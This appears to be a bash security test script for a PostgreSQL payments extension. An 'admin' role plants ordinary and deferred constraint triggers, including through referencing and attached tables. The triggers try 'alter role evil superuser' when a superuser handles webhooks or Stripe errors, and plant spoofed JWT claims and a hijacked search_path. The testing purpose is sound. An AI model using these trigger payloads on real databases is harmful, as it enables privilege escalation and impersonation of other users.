#!/usr/bin/env bash
# Code of an admin that is deferred to the commit, to run there with the rights of the superuser who delivered the event; and
# settings that a trigger leaves behind.
. "$(dirname "$0")/../attack.sh"
q -c "create role evil login" -c "grant create on schema public to evil" -c "select payments.grant_role('evil', 'admin')"
cat > "$SCRATCH/evil.sql" <<'S'
create sequence public.ran; -- a sequence counts calls that were undone, too
grant all on public.ran to public;
create function public.evil() returns trigger language plpgsql as $$
begin
  perform nextval('public.ran');
  begin execute 'alter role evil superuser'; exception when others then null; end;
  return null;
end $$;
create table public.further (id text);
grant insert on public.further to public;
create constraint trigger later after insert on public.further deferrable initially deferred for each row execute function public.evil();
create function public.go_further() returns trigger language plpgsql security definer as $$
begin
  perform nextval('public.ran');
  insert into public.further values ('x');
  return new;
end $$;
S
q -U evil -f "$SCRATCH/evil.sql"
# missed COMMAND…: whether none of the admin's code ran, so that the attack proves nothing.
missed() {
  q -c "alter sequence public.ran restart"
  "$@"
  is_true "select not is_called from public.ran"
}
gained() { is_true "select rolsuper from pg_roles where rolname = 'evil'"; local was=$?; q -c "alter role evil nosuperuser"; return $was; }
answer() { record_error > /dev/null; gained; }
webhook() { q -c "select public.customer('$1')"; gained; }
hang() { q -U evil -c "$1"; }

hang "create trigger plain after update on payments.checkout_sessions for each row execute function public.evil()"
attack "an admin's trigger runs with the rights of a superuser who records an answer" answer
attack "the admin's trigger did not run" missed answer
hang "create constraint trigger later after update on payments.checkout_sessions deferrable initially deferred for each row execute function public.evil()"
attack "an admin's deferred trigger fires at the commit of record_stripe_error" answer
hang "create constraint trigger later after insert on payments.customers deferrable initially deferred for each row execute function public.evil()"
attack "an admin's deferred trigger fires at the commit of a webhook" webhook one
attack "the deferred trigger of a webhook did not run" missed webhook zero
q -c "drop trigger later on payments.customers"
hang "create trigger further before insert on payments.customers for each row execute function public.go_further()"
attack "an admin's trigger writes to his table, whose deferred trigger fires at the commit" webhook two
attack "the trigger that writes to his table did not run" missed webhook twice
q -c "drop trigger further on payments.customers"

# A table that references ours. When a row of ours is deleted, its row is deleted too.
q -c "create table public.followers (id uuid references payments.benefits (id) on delete cascade deferrable initially deferred)" \
  -c "alter table public.followers owner to evil" -c "insert into public.followers select id from payments.benefits limit 1"
hang "create constraint trigger later after delete or update on public.followers deferrable initially deferred for each row execute function public.evil()"
removed() { q -c "select payments.remove_benefit('test', 'price_c')"; gained; }
attack "the row that goes with ours has no trigger" missed removed
q -c "select payments.set_credit_benefit('test', 'price_c', 1)" -c "insert into public.followers select id from payments.benefits limit 1"
attack "a deferred trigger of a table that references ours fires at the commit" removed

# An attached table.
cat > "$SCRATCH/purchases.sql" <<'S'
set role project_admin;
select payments.detach('orders', 'public.orders');
reset role;
create table public.purchases (id text primary key, user_id text, status text default 'pending', amount bigint, currency text);
insert into public.purchases values ('o1', 'ada', 'pending', 100, 'usd');
alter table public.purchases owner to evil;
select payments.attach('orders', 'public.purchases');
S
q -f "$SCRATCH/purchases.sql"
hang "create constraint trigger later after update on public.purchases deferrable initially deferred for each row execute function public.evil()"
bought() { q -c "select public.buy('$1', 'o1')"; gained; }
attack "a deferred trigger of an attached table fires at the commit of a webhook" bought b1
attack "the deferred trigger of the attached table did not run" missed bought b0
q -c "update public.purchases set status = 'pending'"

# Settings: one for the session, one for the transaction.
cat > "$SCRATCH/settings.sql" <<'S'
create function public.settings() returns trigger language plpgsql as $$
begin
  perform set_config('request.jwt.claims', '{"sub":"victim"}', false);
  perform set_config('application_name', 'planted', false);
  perform set_config('work_mem', '123MB', true);
  perform set_config('search_path', 'planted', true);
  return coalesce(new, old);
end $$;
create trigger settings before insert on payments.customers for each row execute function public.settings();
create trigger settings before update on payments.checkout_sessions for each row execute function public.settings();
S
q -U evil -f "$SCRATCH/settings.sql"
settings="select current_setting('request.jwt.claims', true) || current_setting('application_name') || current_setting('work_mem') || current_setting('search_path')"
stay() { q -c "begin" -c "set local application_name = 'honest'" -c "$1" -c "$settings" -c "commit" -c "$settings" | grep -q -e victim -e planted -e 123MB; }
attack "settings of an admin's trigger outlive a webhook" stay "select public.customer('three')"
record_error > /dev/null
q -c "insert into payments.checkout_sessions (id, environment, mode, line_items, success_url, cancel_url) values ('00000000-0000-0000-0000-00000000000a', 'test', 'payment', '[{\"price\": \"p\", \"quantity\": 1}]', 'https://a.example', 'https://a.example')"
attack "settings of an admin's trigger outlive record_stripe_error" stay "select payments.record_stripe_error('00000000-0000-0000-0000-00000000000a', 'x')"
q -U evil -c "drop trigger settings on payments.customers" -c "create trigger settings before update on public.purchases for each row execute function public.settings()"
attack "settings of an attached table's trigger outlive a webhook" stay "select public.buy('b2', 'o1')"

q -U evil -c "create trigger settings before insert on public.further for each row execute function public.settings()"
control "a table that a superuser writes himself keeps the settings" stay "insert into public.further values ('y')"
written() { q -c "insert into public.further values ('z')"; gained; }
control "a table that a superuser writes himself has a deferred trigger" written
